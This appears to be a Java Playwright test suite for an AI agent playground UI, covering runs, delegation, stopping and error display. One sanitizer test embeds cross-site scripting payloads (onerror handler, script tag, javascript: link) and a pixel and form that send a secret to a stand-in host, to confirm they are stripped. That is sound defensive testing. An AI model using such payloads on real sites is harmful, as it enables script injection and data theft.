package io.agencyswarm.e2e.playground;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import io.agencyswarm.e2e.browser.BrowserTest;
import io.agencyswarm.e2e.browser.Pictures;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/** Live runs in the playground, and their ends. */
@QuarkusTest
@TestProfile(PlaygroundOpenProfile.class)
@BrowserTest
class PlaygroundRunsTest {

    private static final String ASK_SLOWLY = "call send_message {\"recipient_agent\":\"Forecaster\","
            + "\"message\":\"say 60 every 50ms\",\"additional_instructions\":\"\"} ;; text All said.";

    @Test
    void starter_pressed_isAnswered(Page page) {
        PlaygroundSession playground = PlaygroundSession.open(page, "travel");

        playground.press("What is the weather in Oslo?");

        playground.awaitState("done");
        assertThat(playground.last()).containsText("The Forecaster says: Oslo today");
        assertThat(playground.last().locator("footer"))
                .containsText(Pattern.compile("4 requests.*tokens in.*out", Pattern.DOTALL));
        assertThat(page.getByRole(com.microsoft.playwright.options.AriaRole.STATUS))
                .containsText("Concierge says");
        Pictures.take(page, "playground-answer");
    }

    @Test
    void delegation_whileItRuns_lightsItsWayInTheGraph(Page page) {
        PlaygroundSession playground = PlaygroundSession.open(page, "travel");

        playground.send(ASK_SLOWLY);

        assertThat(playground.graph()).hasAttribute("data-active", Pattern.compile(".*Concierge->Forecaster.*"));
        assertThat(page.locator(".list.agents > li[aria-current=true]")).hasCount(2);
        assertThat(page.locator("details.delegation[open]")).containsText("w3");
        Pictures.take(page, "playground-delegation");
        playground.awaitState("done");
        assertThat(playground.graph()).hasAttribute("data-active", "");
        assertThat(playground.graph()).hasAttribute("data-visited", Pattern.compile(".*Concierge->Forecaster.*"));
        assertThat(page.locator("details.delegation:not([open])")).containsText("Concierge asks Forecaster");
    }

    @Test
    void toolCall_opened_showsArgumentsAndOutput(Page page) {
        PlaygroundSession playground = PlaygroundSession.open(page, "helpdesk");

        playground.press("I have a question about invoice 1001");

        playground.awaitState("done");
        assertThat(playground.last()).containsText("Triage hands over to Billing");
        Locator card = page.locator("details.call", new Page.LocatorOptions().setHasText("findInvoice"));
        card.locator("summary").click();
        assertThat(card).containsText("\"number\": 1001");
        assertThat(card).containsText("\"euros\": 49.9");
        assertThat(playground.graph())
                .hasAttribute("data-visited", Pattern.compile(".*Triage->Billing.*Billing->Billing_tool_0.*"));
    }

    @Test
    void stop_pressed_endsTheRunAndKeepsWhatWasRead(Page page) {
        PlaygroundSession playground = PlaygroundSession.open(page, "travel");
        playground.send("say 3000 every 20ms");
        assertThat(playground.last()).containsText("w5");

        playground.press("Stop");

        playground.awaitState("cancelled");
        assertThat(playground.last()).containsText("Stopped.");
        assertThat(playground.last().locator(".text.cut")).containsText("w5");
        assertThat(playground.button("Send")).isVisible();
    }

    @Test
    void escape_inTheMessage_endsTheRun(Page page) {
        PlaygroundSession playground = PlaygroundSession.open(page, "travel");
        playground.send("say 3000 every 20ms");
        assertThat(playground.last()).containsText("w2");

        playground.message().press("Escape");

        playground.awaitState("cancelled");
    }

    @Test
    void stopAfterThisTurn_pressed_letsTheTurnEnd(Page page) {
        PlaygroundSession playground = PlaygroundSession.open(page, "travel");
        playground.send("say 40 every 50ms");
        assertThat(playground.last()).containsText("w2");

        playground.press("Stop after this turn");

        playground.awaitState("cancelled");
        assertThat(playground.last()).containsText("w40");
    }

    @Test
    void stop_duringADelegation_keepsWhatTheColleagueDid(Page page) {
        PlaygroundSession playground = PlaygroundSession.open(page, "travel");
        playground.send(
                "call send_message {\"recipient_agent\":\"Forecaster\",\"message\":\"call forecast "
                        + "{\\\"city\\\":\\\"Oslo\\\"} ;; say 3000 every 20ms\",\"additional_instructions\":\"\"} ;; text All said.");
        assertThat(playground.last()).containsText("w5");

        playground.press("Stop");

        playground.awaitState("cancelled");
        Locator delegation = playground.last().locator("details.delegation");
        delegation.locator("summary").first().click();
        assertThat(delegation).containsText("Forecaster calls forecast");
        assertThat(delegation.locator(".text.cut")).containsText("w5");
    }

    @Test
    void errorOfTheModel_shown_saysWhatFailed(Page page) {
        PlaygroundSession playground = PlaygroundSession.open(page, "travel");

        playground.send("hang-up ;; fail 500");
        playground.awaitState("done");
        playground.send("---\nfail 500");

        playground.awaitState("failed");
        assertThat(playground.last().locator(".failure"))
                .containsText("Agent Concierge: the model's server answered 500");
    }

    @Test
    void markdownOfTheModel_withHarmInIt_isShownWithoutIt(Page page) {
        PlaygroundSession playground = PlaygroundSession.open(page, "helpdesk");

        playground.send(
                "call findInvoice {} & call nothing {} ;; text **bold** <img src=x onerror=\"document.title='hit'\"> "
                        + "![pixel](https://stranger.example/p.gif?secret) [link](javascript:document.title='hit') "
                        + "<script>document.title='hit'</script><form action=https://stranger.example><input></form>");

        playground.awaitState("done");
        Locator text = playground.last().locator(".markdown").last();
        assertThat(text.locator("strong")).hasText("bold");
        assertThat(text).containsText("<script>document.title='hit'</script>");
        assertThat(text.locator("img, script, form, [onerror]")).hasCount(0);
        assertThat(text.locator("a[href^='https://stranger.example']"))
                .hasAttribute("rel", Pattern.compile("noopener.*"));
        assertThat(text.locator("a[href^=javascript]")).hasCount(0);
        assertThat(page.title()).doesNotContain("hit");
    }

    @Test
    void frames_ofTheRun_areListedWithTheirTimes(Page page) {
        PlaygroundSession playground = PlaygroundSession.open(page, "travel");
        playground.send("Hello");
        playground.awaitState("done");

        playground.press("Frames");

        Locator frames = page.locator(".frames > li");
        assertThat(frames.first()).containsText(Pattern.compile("\\d+ ms.*meta", Pattern.DOTALL));
        assertThat(frames.last()).containsText("end");
        frames.nth(0).locator("summary").click();
        assertThat(frames.first()).containsText("\"run_id\"");
    }
}
